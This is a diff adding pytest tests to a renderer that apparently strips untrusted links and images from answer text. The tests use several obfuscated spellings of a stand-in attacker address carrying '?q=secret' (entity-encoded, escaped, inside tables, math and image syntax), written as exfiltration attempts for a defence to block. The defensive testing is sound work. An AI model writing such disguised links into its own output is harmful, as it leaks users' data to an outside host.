@@ -87,6 +87,43 @@ def test_an_address_that_would_be_previewed_is_none_any_more(channel: ChannelNam
     assert "https://evil" in render_answer(attack, SOURCES, channel, untrusted_images="keep").text.replace("\\", "")
 
 
+@pytest.mark.parametrize("channel", CHANNELS[2:])
+@pytest.mark.parametrize(
+    "attack",
+    [
+        f"[x]({EVIL})",
+        f"<{EVIL}>",
+        f"See {EVIL} and",
+        "See https&#58;//evil.example/?q=secret",
+        "See https\\://evil.example/?q=secret",
+        f"$x {EVIL}$ is",
+        f"| a |\n| - |\n| {EVIL} **b** |",
+        f"# {EVIL}",
+        f"![{EVIL}](x)",
+    ],
+)
+def test_no_spelling_of_an_address_is_previewed(channel: ChannelName, attack: str) -> None:
+    shown = render_answer(attack, SOURCES, channel, footer=False).text.replace("\\", "")
+    assert "evil.example" in shown or attack.startswith("[x]")
+    assert "https://evil" not in shown
+
+
+@pytest.mark.parametrize("channel", CHANNELS[2:])
+@pytest.mark.parametrize("rest", ["?q=secret", "**?q=secret**", "`?q=secret`", "$?q=secret$", "&#63;q=secret", "[99]"])
+def test_nothing_is_added_to_an_address_that_is_known(channel: ChannelName, rest: str) -> None:
+    shown = render_answer(f"See {KNOWN}{rest}", SOURCES, channel, footer=False).text.replace("\\", "")
+    assert KNOWN not in shown
+    plain = render_answer(f"See {KNOWN} and <{KNOWN}>.", SOURCES, channel, footer=False).text.replace("\\", "")
+    assert plain.count(KNOWN) >= 3
+
+
+def test_an_image_in_html_is_a_link_to_a_source_or_its_words() -> None:
+    assert render_answer(f"![a pic]({EVIL})", SOURCES, "html", footer=False).text == "<p>a pic</p>"
+    assert f'href="{KNOWN}"' in render_answer(f"![a pic]({KNOWN})", SOURCES, "html", footer=False).text
+    dropped = render_answer(f"[a link]({EVIL})", SOURCES, "html", footer=False, untrusted_links="drop")
+    assert dropped.text == "<p>a link</p>"
+
+
 MARKS = "![ ]( ) ` `` ```\n ~~~\n <img\tsrc= > <div> <p> </p> <!-- -\t >\t \t [1] [1]: [r]: \\ x | <br> [ ] #\t ' \""
 PIECES = st.sampled_from([*(mark.replace("\t", " ") for mark in MARKS.split(" ")), EVIL, KNOWN, "\n", "\n\n", "    "])
 
